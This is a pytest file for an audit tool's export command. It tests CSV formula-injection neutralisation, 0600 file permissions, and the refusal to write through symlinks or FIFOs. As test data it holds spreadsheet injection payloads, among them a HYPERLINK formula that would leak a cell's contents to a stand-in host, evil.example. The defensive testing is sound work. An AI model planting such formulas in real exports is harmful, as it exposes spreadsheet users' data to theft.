"""CSV exports stay inert in a spreadsheet; an export file is always written anew as 0600."""

from __future__ import annotations

import argparse
import csv
import io
import os
import stat
import sys
from pathlib import Path

import pytest

from station.audit import AuditJournal
from station.audit.export import neutralise_cell
from station.commands.audit import add_arguments, run
from tests.audit.support import KEY, make_record

posix_only = pytest.mark.skipif(sys.platform == "win32", reason="POSIX modes, FIFOs and links")


def _cli(*argv: str) -> int:
    parser = argparse.ArgumentParser(prog="station audit")
    add_arguments(parser)
    return run(parser.parse_args(list(argv)))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+1+2", "'+1+2"),
        ("-0.5", "'-0.5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("CUST-1", "CUST-1"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralise_cell(value: str, expected: str) -> None:
    assert neutralise_cell(value) == expected


def test_hostile_text_cells_are_neutralised_and_numbers_are_not(db_path: Path) -> None:
    with AuditJournal.open(db_path, KEY) as journal:
        journal.append(
            make_record(
                1,
                client_id='=HYPERLINK("http://evil.example/?leak="&A1,"click")',
                customer_ref="-0.5",
                operator_id="@op",
                notes="+notes",
                error_message="\tbad",
                score=0.25,
                antispoof_score=0.5,
            )
        )
        out = io.StringIO(newline="")
        journal.export("csv", out)
    row = next(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["client_id"].startswith("'=HYPERLINK(")
    assert row["customer_ref"] == "'-0.5"
    assert row["operator_id"] == "'@op"
    assert row["notes"] == "'+notes"
    assert row["error_message"] == "'\tbad"
    assert row["score"] == "0.25"  # a number column: written as a number
    assert row["sequence"] == "1"
    assert not any(value.startswith(("=", "+", "@", "\t", "\r")) for value in row.values())


def test_jsonl_keeps_the_exact_stored_text(db_path: Path) -> None:
    with AuditJournal.open(db_path, KEY) as journal:
        journal.append(make_record(1, client_id="=1+1"))
        out = io.StringIO()
        journal.export("jsonl", out)
    assert '"client_id": "=1+1"' in out.getvalue()


@posix_only
def test_an_export_over_an_existing_readable_file_ends_up_0600(
    filled: Path, key_file: Path, tmp_path: Path
) -> None:
    out = tmp_path / "export.csv"
    out.write_text("old content that was world-readable\n")
    out.chmod(0o644)
    assert (
        _cli("export", "--csv", "--out", str(out), "--audit-db", str(filled), "--key-file", str(key_file))
        == 0
    )
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert "old content" not in out.read_text(encoding="utf-8")
    assert len(out.read_text(encoding="utf-8").splitlines()) == 11
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []


@posix_only
def test_an_export_never_writes_through_a_link_or_into_a_fifo(
    filled: Path, key_file: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    link = tmp_path / "link.csv"
    link.symlink_to(victim)
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    for target, what in ((link, "a symbolic link"), (fifo, "a FIFO")):
        code = _cli(
            "export", "--csv", "--out", str(target), "--audit-db", str(filled), "--key-file", str(key_file)
        )
        assert code == 1
        err = capsys.readouterr().err
        assert f"{target} is {what}" in err
        assert "Traceback" not in err
    assert victim.read_text() == "keep me"
    assert stat.S_ISFIFO(fifo.lstat().st_mode)
